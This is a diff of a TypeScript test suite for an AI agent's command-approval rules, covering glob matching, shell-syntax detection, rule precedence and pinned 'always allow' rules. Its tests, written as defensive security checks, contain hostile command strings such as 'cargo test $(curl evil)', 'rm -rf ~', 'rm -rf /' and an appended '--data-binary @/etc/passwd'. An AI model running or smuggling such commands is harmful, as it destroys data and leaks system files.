@@ -1,207 +1,424 @@
 import assert from "node:assert/strict";
 import { BasisError } from "../src/errors.ts";
+import { english } from "../src/locale/messages.ts";
 import {
   addRule,
   checkRules,
+  commandPieces,
   decideByRules,
+  isSimpleCommand,
   loadRules,
-  matchPattern,
+  matchGlob,
+  pinConditions,
   removeRule,
   type Rule,
   RulesFileError,
   rulesFilePath,
   validateRulesDocument,
 } from "../src/approval/rules/mod.ts";
+import type { RuleQuery, ToolConditions } from "../src/approval/rules/types.ts";
+import type { ToolPreview } from "../src/approval/preview.ts";
 import { denoRun } from "./_deno_run.ts";
+import { Fuzz } from "./_fuzz.ts";
 
 const CHILD = new URL("./fixtures/rules/rules_child.ts", import.meta.url).pathname;
 const WINDOWS = Deno.build.os === "windows";
 
-// --- matching -----------------------------------------------------------------------------------
+// --- globs: one field at a time -------------------------------------------------------------------
 
-Deno.test("matchPattern() lets ? stand for exactly one Unicode character", () => {
+Deno.test("matchGlob() lets ? stand for exactly one Unicode character", () => {
   for (const text of ["abc", "a/c", "aéc", "a😀c", 'a"c', "a*c", "a?c"]) {
-    assert.ok(matchPattern("a?c", text), text);
+    assert.ok(matchGlob("a?c", text), text);
   }
   for (const text of ["ac", "abbc", "a😀😀c", "abcd", "xabc"]) {
-    assert.ok(!matchPattern("a?c", text), text);
+    assert.ok(!matchGlob("a?c", text), text);
   }
-  // An astral character is one character, not two UTF-16 units; a decomposed é is two.
-  assert.ok(!matchPattern("a??c", "a😀c"));
-  assert.ok(matchPattern("a??c", "ae\u0301c"));
-  assert.ok(matchPattern("?", "😀"));
-  assert.ok(!matchPattern("?", ""));
+  assert.ok(!matchGlob("a??c", "a😀c"));
+  assert.ok(matchGlob("a??c", "ae\u0301c"));
+  assert.ok(matchGlob("?", "😀"));
+  assert.ok(!matchGlob("?", ""));
 });
 
-Deno.test("matchPattern() is anchored at both ends", () => {
-  assert.ok(!matchPattern("cargo", "cargo test"));
-  assert.ok(matchPattern("cargo*", "cargo test"));
-  assert.ok(matchPattern("*test", "cargo test"));
-  assert.ok(!matchPattern("test", "cargo test"));
-  assert.ok(matchPattern("*go te*", "cargo test"));
+Deno.test("matchGlob() is anchored at both ends, * matching any run within the field", () => {
+  assert.ok(!matchGlob("cargo", "cargo test"));
+  assert.ok(matchGlob("cargo*", "cargo test"));
+  assert.ok(matchGlob("*test", "cargo test"));
+  assert.ok(matchGlob("*go te*", "cargo test"));
+  assert.ok(matchGlob("", ""));
+  assert.ok(!matchGlob("", "a"));
+  for (const glob of ["*", "**"]) assert.ok(matchGlob(glob, "") && matchGlob(glob, "a/b c"));
+  assert.ok(matchGlob("*a*b", "xaybzb"));
+  assert.ok(!matchGlob("*a*b", "xaybz"));
+  assert.ok(matchGlob("*😀", "x😀"));
 });
 
-Deno.test("matchPattern() with the empty pattern matches only the empty text", () => {
-  assert.ok(matchPattern("", ""));
-  assert.ok(!matchPattern("", "a"));
-  assert.ok(!matchPattern("", " "));
+Deno.test("matchGlob() escapes with a backslash, and a lone trailing backslash matches nothing", () => {
+  assert.ok(matchGlob("a\\*", "a*"));
+  assert.ok(!matchGlob("a\\*", "ab"));
+  assert.ok(matchGlob("a\\?", "a?"));
+  assert.ok(!matchGlob("a\\?", "ab"));
+  assert.ok(matchGlob("a\\\\*", "a\\xyz"));
+  assert.ok(!matchGlob("a\\", "a\\"));
+  assert.ok(matchGlob("[abc]{1}.+", "[abc]{1}.+"));
 });
 
-Deno.test("matchPattern() lets * and ** match any run, including none, slashes and quotes", () => {
-  for (const pattern of ["*", "**", "***"]) {
-    for (const text of ["", "a", '{"a":"/b/c"}', "😀\n\t"]) assert.ok(matchPattern(pattern, text));
-  }
-  assert.ok(matchPattern("*a*b", "xaybzb"));
-  assert.ok(!matchPattern("*a*b", "xaybz"));
-  assert.ok(matchPattern("a**b", "ab"));
-  assert.ok(matchPattern("a*/*c", "a/b/c"));
-  assert.ok(matchPattern("*?", "x"));
-  assert.ok(!matchPattern("*??", "x"));
-});
-
-Deno.test("matchPattern() finds a key anywhere in a spawn preview", () => {
-  const preview = '{"mode":"command","body":"ls","cwd":"/w","target":"mac"}';
-  assert.ok(matchPattern('**"target":"mac"**', preview));
-  assert.ok(!matchPattern('**"target":"linux"**', preview));
-  assert.ok(matchPattern('{"mode":"command","body":*,"cwd":"/w","target":"mac"}', preview));
-});
-
-Deno.test("matchPattern() treats everything but * and ? literally", () => {
-  assert.ok(matchPattern('{"a":[1,2]}', '{"a":[1,2]}'));
-  assert.ok(!matchPattern("[abc]", "a"));
-  assert.ok(matchPattern("[abc]", "[abc]"));
-  assert.ok(!matchPattern(".+", "ab"));
-  assert.ok(!matchPattern("a{1,2}", "aa"));
-  assert.ok(matchPattern("(a|b)$^", "(a|b)$^"));
-  // No escapes: a backslash is a literal character and the * after it is still a wildcard.
-  assert.ok(matchPattern("a\\*", "a\\xyz"));
-  assert.ok(!matchPattern("a\\*", "a*"));
-  assert.ok(!matchPattern("A", "a"));
-});
-
-Deno.test("matchPattern() answers a catastrophic pattern in linear-ish time", () => {
+Deno.test("matchGlob() answers a catastrophic glob in linear-ish time", () => {
   const text = "a".repeat(10_000);
-  const started = performance.now();
-  assert.ok(!matchPattern("*a*a*a*a*a*a*b", text));
-  assert.ok(matchPattern("*a*a*a*a*a*a*b", `${text}b`));
-  assert.ok(!matchPattern("*a*a*a*a*a*a*b", `${text}b${text}`));
-  assert.ok(!matchPattern(`${"*a".repeat(50)}*b`, text));
-  const elapsed = performance.now() - started;
-  assert.ok(elapsed < 250, `took ${elapsed.toFixed(1)} ms`);
+  assert.ok(!matchGlob("*a*a*a*a*a*a*b", text));
+  assert.ok(matchGlob("*a*a*a*a*a*a*b", `${text}b`));
+  assert.ok(!matchGlob(`${"*a".repeat(50)}*b`, text));
 });
 
-Deno.test("matchPattern() agrees with an equivalent regular expression on random cases", () => {
+Deno.test("matchGlob() agrees with an equivalent regular expression on random cases", () => {
+  const random = new Fuzz(42);
   const alphabet = ["a", "b", "/", '"', "é", "😀"];
-  const patternAlphabet = [...alphabet, "*", "?"];
-  let seed = 42;
-  const random = (n: number) => {
-    seed = (seed * 1103515245 + 12345) % 2 ** 31;
-    return seed % n;
-  };
+  const globAlphabet = [...alphabet, "*", "?", "\\*", "\\?", "\\\\"];
   const pick = (chars: string[], max: number) =>
-    Array.from({ length: random(max + 1) }, () => chars[random(chars.length)]).join("");
+    Array.from({ length: random.int(max + 1) }, () => chars[random.int(chars.length)]).join("");
   for (let i = 0; i < 3000; i++) {
-    const pattern = pick(patternAlphabet, 6);
-    const text = pick(alphabet, 8);
-    const source = [...pattern].map((c) =>
-      c === "*" ? ".*" : c === "?" ? "." : c.replace(/[.*+?^${}()|[\]\\/]/g, "\\$&")
-    ).join("");
+    const glob = pick(globAlphabet, 6);
+    const text = pick([...alphabet, "*", "?", "\\"], 8);
+    let source = "";
+    for (let at = 0; at < glob.length; at++) {
+      const c = glob[at] as string;
+      if (c === "\\") source += `\\${glob[++at]}`.replace(/^\\([^*?\\])/, "$1");
+      else if (c === "*") source += ".*";
+      else if (c === "?") source += ".";
+      else source += c.replace(/[.*+?^${}()|[\]\\/]/g, "\\$&");
+    }
     const expected = new RegExp(`^${source}$`, "su").test(text);
-    assert.equal(matchPattern(pattern, text), expected, `${pattern} vs ${text}`);
+    assert.equal(matchGlob(glob, text), expected, `${glob} vs ${text}`);
   }
 });
 
-// --- precedence ---------------------------------------------------------------------------------
+// --- shell text -----------------------------------------------------------------------------------
 
-const PREVIEW = '{"tool":"sh","command":["rm","-rf","x"],"cwd":"/w","input":{}}';
-
-function rule(id: string, fields: Partial<Rule>): Rule {
-  return { id, tool: "sh", decision: "allow", scope: "global", ...fields };
-}
-
-/** The id of the rule that answers PREVIEW for tool "sh" in workspace "/w", unless told otherwise. */
-function decide(rules: Rule[], where: { root?: string; tool?: string } = { root: "/w" }) {
-  const { root, tool = "sh" } = where;
-  return decideByRules(rules, { tool, previewText: PREVIEW, root })?.rule.id;
-}
-
-Deno.test("decideByRules() prefers a rule with a pattern over one without", () => {
-  const bareDeny = rule("r-1", { decision: "deny" });
-  const patternAllow = rule("r-2", { pattern: '*"rm"*' });
-  assert.equal(decide([bareDeny, patternAllow]), "r-2");
-  assert.equal(decide([patternAllow, bareDeny]), "r-2");
-});
-
-Deno.test("decideByRules() prefers deny over allow among equals", () => {
-  const allow = rule("r-1", { pattern: "*" });
-  const deny = rule("r-9", { pattern: '*"-rf"*', decision: "deny" });
-  assert.equal(decide([allow, deny]), "r-9");
-  assert.equal(decide([rule("r-1", {}), rule("r-2", { decision: "deny" })]), "r-2");
-  // A global deny beats a workspace allow of the same kind.
-  const workspaceAllow = rule("r-0", { pattern: "*", scope: { workspace: "/w" } });
-  assert.equal(decide([workspaceAllow, deny]), "r-9");
-});
-
-Deno.test("decideByRules() breaks remaining ties by workspace scope, then by id", () => {
-  const global = rule("r-a", { pattern: "*" });
-  const local = rule("r-z", { pattern: "*", scope: { workspace: "/w" } });
-  assert.equal(decide([global, local]), "r-z");
-  assert.equal(decide([rule("r-b", { pattern: "*" }), rule("r-a", { pattern: "*" })]), "r-a");
-  const all = [
-    rule("r-5", {}),
-    rule("r-4", { pattern: "*", scope: { workspace: "/w" } }),
-    rule("r-3", { pattern: "*", decision: "deny" }),
-    rule("r-2", { pattern: "*" }),
-    rule("r-1", { decision: "deny" }),
+Deno.test("isSimpleCommand() refuses every kind of control syntax, quoted or not", () => {
+  for (const body of ["cargo test", "ls -la src/", "git log --oneline -n 5", "echo 'hi there'"]) {
+    assert.ok(isSimpleCommand(body), body);
+  }
+  const compound = [
+    "a; b",
+    "a & b",
+    "a && b",
+    "a | b",
+    "a || b",
+    "a `b`",
+    "a $(b)",
+    "a $HOME",
+    "a > f",
+    "a < f",
+    "a\nb",
+    "a\rb",
+    "(a)",
+    "echo 'x;y'",
+    "a \\\nb",
+    "a\u0000b",
   ];
+  for (const body of compound) assert.ok(!isSimpleCommand(body), JSON.stringify(body));
+});
+
+Deno.test("commandPieces() cuts a command line at its control operators", () => {
+  assert.deepEqual(commandPieces("ls; rm -rf x && echo $(cat y)|wc"), [
+    "ls",
+    "rm -rf x",
+    "echo",
+    "cat y",
+    "wc",
+  ]);
+});
+
+// --- which rule answers -------------------------------------------------------------------------
+
+const PREVIEW: ToolPreview = {
+  tool: "sh",
+  program: "/bin/rm",
+  command: ["rm", "-rf", "x"],
+  cwd: "/w",
+  input: { path: "x", n: 1, nested: { deep: ["a", "b"] } },
+};
+
+function rule(id: string, fields: Partial<Rule> = {}): Rule {
+  return {
+    id,
+    tool: "sh",
+    decision: "allow",
+    scope: "global",
+    when: { program: "/bin/rm" },
+    ...fields,
+  };
+}
+
+function query(
+  preview: ToolPreview = PREVIEW,
+  where: { root?: string | undefined; fromWorkspace?: boolean } = {},
+): RuleQuery {
+  return {
+    tool: preview.tool,
+    kind: "tool",
+    preview,
+    root: "root" in where ? where.root : "/w",
+    fromWorkspace: where.fromWorkspace ?? false,
+  };
+}
+
+async function winner(rules: Rule[], q: RuleQuery = query()): Promise<string | undefined> {
+  return (await decideByRules(rules, q))?.rule.id;
+}
+
+Deno.test("decideByRules(): deny beats ask beats allow, however narrow the weaker rule", async () => {
+  const narrowAllow = rule("r-1", {
+    when: {
+      program: "/bin/rm",
+      argv: ["rm", "-rf", "x"],
+      cwd: "/w",
+      input: { "/n": { equals: 1 } },
+    },
+  });
+  const broadAsk = rule("r-2", { decision: "ask" });
+  const broadDeny = rule("r-3", { decision: "deny", when: {} });
+  assert.equal(await winner([narrowAllow]), "r-1");
+  assert.equal(await winner([narrowAllow, broadAsk]), "r-2");
+  assert.equal(await winner([broadAsk, narrowAllow, broadDeny]), "r-3");
   for (let i = 0; i < 10; i++) {
-    const shuffled = [...all].sort(() => Math.random() - 0.5);
-    assert.equal(decide(shuffled), "r-3");
+    const shuffled = [narrowAllow, broadAsk, broadDeny].sort(() => Math.random() - 0.5);
+    assert.equal(await winner(shuffled), "r-3");
   }
 });
 
-Deno.test("decideByRules() applies only this tool's rules, global or for this workspace", () => {
+Deno.test("decideByRules(): among equals a workspace rule is named first, then the smaller id", async () => {
+  const global = rule("r-a");
+  const local = rule("r-z", { scope: { workspace: "/w" } });
+  assert.equal(await winner([global, local]), "r-z");
+  assert.equal(await winner([rule("r-b"), rule("r-a")]), "r-a");
+});
+
+Deno.test("decideByRules() applies only this tool's rules, global or for this exact root", async () => {
   const other = rule("r-1", { scope: { workspace: "/elsewhere" } });
-  assert.equal(decide([other]), undefined);
-  const global = rule("r-2", {});
-  assert.equal(decide([other, global]), "r-2");
-  assert.equal(decide([global], { root: "/anywhere/else" }), "r-2");
-  assert.equal(decide([global], {}), "r-2");
+  assert.equal(await winner([other]), undefined);
   const here = rule("r-3", { scope: { workspace: "/w" } });
-  assert.equal(decide([here], {}), undefined);
-  assert.equal(decide([here], { root: "/w/sub" }), undefined);
-  assert.equal(decide([here], { root: "/w" }), "r-3");
-  assert.equal(decide([global], { root: "/w", tool: "bash" }), undefined);
+  assert.equal(await winner([here], query(PREVIEW, { root: "/w/sub" })), undefined);
+  assert.equal(await winner([here], query(PREVIEW, { root: undefined })), undefined);
+  assert.equal(await winner([rule("r-2")], query(PREVIEW, { root: "/anywhere" })), "r-2");
+  assert.equal(await winner([rule("r-4", { tool: "bash" })]), undefined);
 });
 
-Deno.test("decideByRules() skips a pattern that does not match and falls back to a bare rule", () => {
-  const narrow = rule("r-1", { pattern: '*"ls"*', decision: "deny" });
-  const bare = rule("r-2", {});
-  assert.equal(decide([narrow, bare]), "r-2");
-  assert.equal(decide([narrow]), undefined);
-  assert.equal(decide([]), undefined);
-  const found = decideByRules([bare], { tool: "sh", previewText: PREVIEW, root: "/w" });
-  assert.deepEqual(found, { rule: bare, decision: "allow" });
-});
-
-// --- examples -----------------------------------------------------------------------------------
-
-Deno.test("checkRules() reports each failing example with the rule's id", () => {
-  const rules = [
-    rule("r-ok", { pattern: "cargo*", match: ["cargo test"], not_match: ["npm test"] }),
-    rule("r-narrow", { pattern: "cargo", match: ["cargo test"] }),
-    rule("r-broad", { pattern: "*", not_match: ["rm"], decision: "deny" }),
-    rule("r-bare", { not_match: ["x"] }),
+Deno.test("decideByRules() checks each condition on its own field", async () => {
+  const cases: [ToolConditions, boolean][] = [
+    [{ program: "/bin/rm" }, true],
+    [{ program: "/usr/bin/rm" }, false],
+    [{ program: "/bin/rm", argv: ["rm", "-rf", "x"] }, true],
+    [{ program: "/bin/rm", argv: ["rm", "-rf"] }, false],
+    [{ program: "/bin/rm", argv: ["rm", "-rf", "x", "y"] }, false],
+    [{ program: "/bin/rm", argv: ["rm", { rest: true }] }, true],
+    [{ program: "/bin/rm", argv: ["rm", "-rf", "x", { rest: true }] }, true],
+    [{ program: "/bin/rm", argv: ["rm", "-rf", "x", "y", { rest: true }] }, false],
+    [{ program: "/bin/rm", argv: [{ glob: "r*" }, { glob: "-*" }, { glob: "?" }] }, true],
+    // A glob never reaches into the next argument.
+    [{ program: "/bin/rm", argv: [{ glob: "rm*" }, "x"] }, false],
+    [{ program: "/bin/rm", argv: [{ glob: "*" }, { rest: true }] }, true],
+    [{ program: "/bin/rm", cwd: "/w" }, true],
+    [{ program: "/bin/rm", cwd: { glob: "/*" } }, true],
+    [{ program: "/bin/rm", cwd: "/w/" }, false],
+    [{ program: "/bin/rm", input: { "/path": { equals: "x" } } }, true],
+    [{ program: "/bin/rm", input: { "/path": { glob: "?" } } }, true],
+    [{ program: "/bin/rm", input: { "/n": { equals: 1 } } }, true],
+    [{ program: "/bin/rm", input: { "/n": { glob: "1" } } }, false],
+    [{ program: "/bin/rm", input: { "/nested/deep/1": { equals: "b" } } }, true],
+    [{ program: "/bin/rm", input: { "/nested": { equals: { deep: ["a", "b"] } } } }, true],
+    [{ program: "/bin/rm", input: { "/nested": { equals: { deep: ["b", "a"] } } } }, false],
+    [{ program: "/bin/rm", input: { "/missing": { equals: null } } }, false],
+    [{ program: "/bin/rm", input: { "": { equals: PREVIEW.input } } }, true],
   ];
-  const problems = checkRules(rules);
+  for (const [when, expected] of cases) {
+    assert.equal(await winner([rule("r-1", { when })]) === "r-1", expected, JSON.stringify(when));
+  }
+});
+
+Deno.test("decideByRules(): a global allow covers a workspace tool only when it says which arguments", async () => {
+  const workspace = query(PREVIEW, { fromWorkspace: true });
+  assert.equal(await winner([rule("r-1")], workspace), undefined);
+  assert.equal(await winner([rule("r-1")], query(PREVIEW, { fromWorkspace: false })), "r-1");
+  const pinned = rule("r-2", { when: { program: "/bin/rm", argv: ["rm", "-rf", "x"] } });
+  assert.equal(await winner([pinned], workspace), "r-2");
+  const other = rule("r-3", { when: { program: "/bin/rm", argv: ["rm", "-i"] } });
+  assert.equal(await winner([other], workspace), undefined);
+  // A workspace-scoped rule, or a deny, applies as usual.
+  assert.equal(await winner([rule("r-4", { scope: { workspace: "/w" } })], workspace), "r-4");
+  assert.equal(await winner([rule("r-5", { decision: "deny" })], workspace), "r-5");
+});
+
+function spawnQuery(body: string, mode: "command" | "agent" = "command"): RuleQuery {
+  return {
+    tool: "spawn",
+    kind: "spawn",
+    preview: { mode, body, cwd: "/w", target: "local" },
+    root: "/w",
+  };
+}
+
+Deno.test("decideByRules(): a spawn glob allows only simple commands; exact bodies and denials always apply", async () => {
+  const glob = rule("r-g", { tool: "spawn", when: { body: { glob: "cargo test*" } } });
+  assert.equal(await winner([glob], spawnQuery("cargo test --release")), "r-g");
+  assert.equal(await winner([glob], spawnQuery("cargo test; rm -rf ~")), undefined);
+  assert.equal(await winner([glob], spawnQuery("cargo test $(curl evil)")), undefined);
+  assert.equal(await winner([glob], spawnQuery("cargo test\nrm -rf ~")), undefined);
+  // Tasks are not shell text.
+  assert.equal(await winner([glob], spawnQuery("cargo test; twice", "agent")), "r-g");
+  const exact = rule("r-e", { tool: "spawn", when: { body: "make && make install" } });
+  assert.equal(await winner([exact], spawnQuery("make && make install")), "r-e");
+  assert.equal(await winner([exact], spawnQuery("make && make install ")), undefined);
+  const deny = rule("r-d", { tool: "spawn", decision: "deny", when: { body: { glob: "rm *" } } });
+  assert.equal(await winner([exact, deny], spawnQuery("ls; rm -rf ~")), "r-d");
+  assert.equal(await winner([deny], spawnQuery("echo ok && rm -rf /")), "r-d");
+  const target = rule("r-t", { tool: "spawn", when: { body: "ls", target: "mac" } });
+  assert.equal(await winner([target], spawnQuery("ls")), undefined);
+  const mode = rule("r-m", { tool: "spawn", when: { body: "ls", mode: "agent" } });
+  assert.equal(await winner([mode], spawnQuery("ls")), undefined);
+});
+
+// --- "always allow": the property -----------------------------------------------------------------
+
+function randomPreview(random: Fuzz): ToolPreview {
+  const chars = ["a", "b", "*", "?", "\\", '"', ",", " ", "/", "é", "😀", "]", "["];
+  const word = (min = 0) =>
+    Array.from({ length: min + random.int(6) }, () => chars[random.int(chars.length)]).join("");
+  return {
+    tool: "t",
+    program: `/${word(1)}`,
+    command: Array.from({ length: 1 + random.int(4) }, () => word()),
+    cwd: `/${word()}`,
+    input: { q: word(), n: random.int(10) },
+  };
+}
+
+/** Previews that differ from `p` in exactly one pinned way. */
+function mutations(p: ToolPreview, random: Fuzz): ToolPreview[] {
+  const change = (text: string) => text + ["x", "*", "?", "\\", '","'][random.int(5)];
+  const at = random.int(p.command.length);
+  const argv = [...p.command];
+  argv[at] = change(argv[at] as string);
+  return [
+    { ...p, program: change(p.program) },
+    { ...p, command: argv },
+    { ...p, command: [...p.command, ""] },
+    { ...p, command: [...p.command, "--data-binary", "@/etc/passwd"] },
+    { ...p, command: p.command.slice(0, -1) },
+    { ...p, command: [p.command.join('","')] },
+    { ...p, cwd: change(p.cwd) },
+  ].filter((q) => JSON.stringify(q) !== JSON.stringify(p));
+}
+
+Deno.test("pinConditions(): the rule always allow makes matches its preview and nothing that differs", async () => {
+  const random = new Fuzz(Number(Deno.env.get("BASIS_FUZZ_SEED") ?? 7));
+  for (let i = 0; i < 300; i++) {
+    const p = randomPreview(random);
+    const secrets = random.int(3) === 0
+      ? [p.command[0] as string].filter((s) => s.length >= 4)
+      : [];
+    const when = await pinConditions({ kind: "tool", preview: p }, secrets);
+    const pinned = rule("r-p", { tool: "t", when, scope: { workspace: "/w" } });
+    assert.equal(
+      await winner([pinned], query(p, { fromWorkspace: true })),
+      "r-p",
+      JSON.stringify(p),
+    );
+    // Any input: the rule has no input condition.
+    const other = { ...p, input: { evil: ["sh", "-c", "x"] } };
+    assert.equal(await winner([pinned], query(other, { fromWorkspace: true })), "r-p");
+    for (const q of mutations(p, random)) {
+      assert.equal(
+        await winner([pinned], query(q, { fromWorkspace: true })),
+        undefined,
+        JSON.stringify(q),
+      );
+    }
+    for (const secret of secrets) assert.ok(!JSON.stringify(when).includes(secret));
+  }
+});
+
+Deno.test("pinConditions() pins a secret by digest, and the digest matches that value only", async () => {
+  const secret = "Authorization: Bearer s3cr3t-token";
+  const p: ToolPreview = {
+    tool: "curl",
+    program: "/usr/bin/curl",
+    command: ["curl", "-H", secret, "https://api.example.com"],
+    cwd: "/w",
+    input: {},
+  };
+  const when = await pinConditions({ kind: "tool", preview: p }, [
+    "s3cr3t-token",
+  ]) as ToolConditions;
+  const stored = JSON.stringify(when);
+  assert.ok(!stored.includes("s3cr3t"));
+  assert.ok(typeof when.argv?.[2] === "object" && "sha256" in (when.argv[2] as object));
+  const pinned = rule("r-s", { tool: "curl", when });
+  assert.equal(await winner([pinned], query(p)), "r-s");
+  const changed = { ...p, command: ["curl", "-H", `${secret}x`, "https://api.example.com"] };
+  assert.equal(await winner([pinned], query(changed)), undefined);
+  const appended = { ...p, command: [...p.command, "--data-binary", "@/etc/passwd"] };
+  assert.equal(await winner([pinned], query(appended)), undefined);
+  // A secret equal to the program: pinned by digest, still only that program.
+  const asProgram = await pinConditions(
+    { kind: "tool", preview: { ...p, program: "/opt/tok3n" } },
+    [
+      "/opt/tok3n",
+    ],
+  ) as ToolConditions;
+  assert.ok(typeof asProgram.program === "object");
+  const byProgram = rule("r-q", { tool: "curl", when: asProgram });
+  assert.equal(await winner([byProgram], query({ ...p, program: "/opt/tok3n" })), "r-q");
+  assert.equal(await winner([byProgram], query({ ...p, program: "/bin/sh" })), undefined);
+});
+
+Deno.test("no rule matches by input content alone unless it has an input condition", async () => {
+  const random = new Fuzz(11);
+  for (let i = 0; i < 200; i++) {
+    const p = randomPreview(random);
+    const when = await pinConditions({ kind: "tool", preview: p }, []);
+    const pinned = rule("r-p", { tool: "t", when });
+    // The input holds the pinned preview itself, serialized and as fields: still no match for a
+    // call whose own fields differ.
+    const attack: ToolPreview = {
+      ...p,
+      program: "/bin/sh",
+      command: ["sh", "-c", "touch /tmp/pwned"],
+      input: { ...p, text: JSON.stringify(p) },
+    };
+    assert.equal(await winner([pinned], query(attack)), undefined);
+  }
+});
+
+// --- examples -------------------------------------------------------------------------------------
+
+Deno.test("checkRules() reports each failing example with the rule's id", async () => {
+  const cargo = { program: "/usr/bin/cargo", argv: ["cargo", "test", { rest: true }] } as const;
+  const example = (argv: string[]) => ({ program: "/usr/bin/cargo", command: argv, cwd: "/w" });
+  const rules = [
+    rule("r-ok", {
+      tool: "cargo",
+      when: cargo,
+      match: [example(["cargo", "test", "-q"])],
+      not_match: [example(["cargo", "build"])],
+    }),
+    rule("r-narrow", { tool: "cargo", when: cargo, match: [example(["cargo", "build"])] }),
+    rule("r-broad", {
+      tool: "cargo",
+      decision: "deny",
+      when: {},
+      not_match: [example(["cargo", "test"])],
+    }),
+    rule("r-shape", { tool: "cargo", when: cargo, match: ["cargo test"] }),
+  ];
+  const problems = await checkRules(rules);
   assert.deepEqual(problems.map((p) => [p.id, p.ignored]), [
     ["r-narrow", true],
     ["r-broad", false],
-    ["r-bare", true],
+    ["r-shape", true],
   ]);
-  assert.match(problems[0]!.reason, /^pattern does not match example match\[0\] "cargo test"$/);
-  assert.match(problems[1]!.reason, /^pattern matches example not_match\[0\] "rm"$/);
-  assert.match(problems[2]!.reason, /rule has no pattern/);
+  assert.match(english(problems[0]!.phrase), /^rule does not match example match\[0\] /);
+  assert.match(english(problems[1]!.phrase), /^rule matches example not_match\[0\] /);
+  assert.match(english(problems[2]!.phrase), /^example match\[0\]: not a preview of this tool/);
 });
 
 // --- storage ------------------------------------------------------------------------------------
@@ -245,6 +462,7 @@ const STORED = {
   tool: "sh",
   decision: "allow",
   scope: "global",
+  when: { program: "/bin/sh" },
 } as const;
 
 Deno.test("loadRules() with no file gives no rules", async () => {
@@ -264,11 +482,11 @@ Deno.test("addRule() creates the directory and writes the file atomically, leavi
   const config = `${dir}/config/basis`;
   const added = await addRule(config, {
     tool: "cargo",
-    pattern: '*"cargo","test"*',
     decision: "allow",
-    reason: "tests are safe",
     scope: { workspace: "/home/u/app/../app/" },
-    match: ['{"tool":"cargo","command":["cargo","test"]}'],
+    when: { program: "/usr/bin/cargo", argv: ["cargo", "test", { rest: true }] },
+    reason: "tests are safe",
+    match: [{ program: "/usr/bin/cargo", command: ["cargo", "test"], cwd: "/home/u/app" }],
   });
   assert.match(added.id, /^r-[a-z2-7]{8}$/);
   assert.deepEqual(added.scope, { workspace: "/home/u/app" });
@@ -276,21 +494,26 @@ Deno.test("addRule() creates the directory and writes the file atomically, leavi
   assert.deepEqual(Object.keys(added), [
     "id",
     "tool",
-    "pattern",
     "decision",
-    "reason",
     "scope",
+    "when",
+    "reason",
     "match",
     "created",
   ]);
   assert.deepEqual(await entries(config), ["rules.json", "rules.json.lock"]);
   const text = await Deno.readTextFile(rulesFilePath(config));
-  assert.deepEqual(JSON.parse(text), { version: 1, rules: [added] });
+  assert.deepEqual(JSON.parse(text), { version: 2, rules: [added] });
   if (!WINDOWS) {
     assert.equal((await Deno.stat(config)).mode! & 0o777, 0o700);
     assert.equal((await Deno.stat(rulesFilePath(config))).mode! & 0o777, 0o600);
   }
-  const second = await addRule(config, { tool: "ls", decision: "deny", scope: "global" });
+  const second = await addRule(config, {
+    tool: "ls",
+    decision: "deny",
+    scope: "global",
+    when: { program: "/bin/x" },
+  });
   const loaded = await loadRules(config);
   assert.deepEqual(loaded.rules, [added, second]);
   assert.deepEqual(await entries(config), ["rules.json", "rules.json.lock"]);
@@ -300,25 +523,41 @@ Deno.test("addRule() creates the directory and writes the file atomically, leavi
 Deno.test("addRule() refuses a malformed rule or one whose examples fail", async () => {
   const dir = await scratch();
   await rejects(
-    addRule(dir, { tool: "sh", decision: "allow", scope: { workspace: "relative/root" } }),
+    addRule(dir, {
+      tool: "sh",
+      decision: "allow",
+      scope: { workspace: "relative/root" },
+      when: {},
+    }),
     "usage",
     /^Cannot add rule for tool "sh": scope: workspace: must be an absolute, normalised path$/,
   );
   await rejects(
-    addRule(dir, { tool: "sh", decision: "maybe" as "allow", scope: "global" }),
+    addRule(dir, { tool: "sh", decision: "maybe" as "allow", scope: "global", when: {} }),
     "usage",
-    /decision: must be "allow" or "deny"/,
+    /decision: must be "allow", "deny" or "ask"/,
   );
   await rejects(
     addRule(dir, {
       tool: "sh",
-      pattern: "cargo",
       decision: "deny",
       scope: "global",
-      match: ["cargo test"],
+      when: { program: "/bin/rm" },
+      match: [{ program: "/bin/ls", command: ["ls"], cwd: "/" }],
     }),
     "usage",
-    /^Cannot add rule for tool "sh": pattern does not match example match\[0\] "cargo test"$/,
+    /^Cannot add rule for tool "sh": rule does not match example match\[0\] /,
+  );
+  // A name never approves on its own.
+  await rejects(
+    addRule(dir, { tool: "sh", decision: "allow", scope: "global", when: {} }),
+    "usage",
+    /when: an allow or ask rule for a declared tool must pin the program/,
+  );
+  await rejects(
+    addRule(dir, { tool: "spawn", decision: "ask", scope: "global", when: { mode: "command" } }),
+    "usage",
+    /when: an allow or ask rule for spawn must say which command or task \(body\)/,
   );
   assert.deepEqual(await entries(dir), []);
   await Deno.remove(dir, { recursive: true });
@@ -332,7 +571,12 @@ Deno.test("addRule() from 20 processes at once keeps all 20 rules in a valid fil
       child([
         "add",
         config,
-        JSON.stringify({ tool: `tool-${n}`, decision: "allow", scope: "global" }),
+        JSON.stringify({
+          tool: `tool-${n}`,
+          decision: "allow",
+          scope: "global",
+          when: { program: "/bin/x" },
+        }),
       ])),
   );
   for (const result of results) assert.ok(result.ok, JSON.stringify(result));
@@ -352,7 +596,7 @@ Deno.test("addRule() called 20 times at once in one process keeps all 20 rules",
   await Promise.all(
     Array.from(
       { length: 20 },
-      (_, n) => addRule(dir, { tool: `tool-${n}`, decision: "deny", scope: "global" }),
+      (_, n) => addRule(dir, { tool: `tool-${n}`, decision: "deny", scope: "global", when: {} }),
     ),
   );
   assert.equal((await loadRules(dir)).rules.length, 20);
@@ -363,8 +607,18 @@ Deno.test("addRule() called 20 times at once in one process keeps all 20 rules",
 Deno.test("removeRule() removes by id and reports an unknown id clearly", async () => {
   const dir = await scratch();
   await rejects(removeRule(`${dir}/none`, "r-nothing1"), "usage", /no rule has that id/);
-  const keep = await addRule(dir, { tool: "a", decision: "allow", scope: "global" });
-  const drop = await addRule(dir, { tool: "b", decision: "deny", scope: "global" });
+  const keep = await addRule(dir, {
+    tool: "a",
+    decision: "allow",
+    scope: "global",
+    when: { program: "/bin/x" },
+  });
+  const drop = await addRule(dir, {
+    tool: "b",
+    decision: "deny",
+    scope: "global",
+    when: { program: "/bin/x" },
+  });
   assert.deepEqual(await removeRule(dir, drop.id), drop);
   assert.deepEqual((await loadRules(dir)).rules, [keep]);
   const file = rulesFilePath(dir);
@@ -381,7 +635,7 @@ Deno.test("loadRules() refuses corrupt JSON with the file and line:column", asyn
   const dir = await scratch();
   const file = await writeRules(
     dir,
-    '{\n  "version": 1,\n  "rules": [\n    {"id": "x",}\n  ]\n}\n',
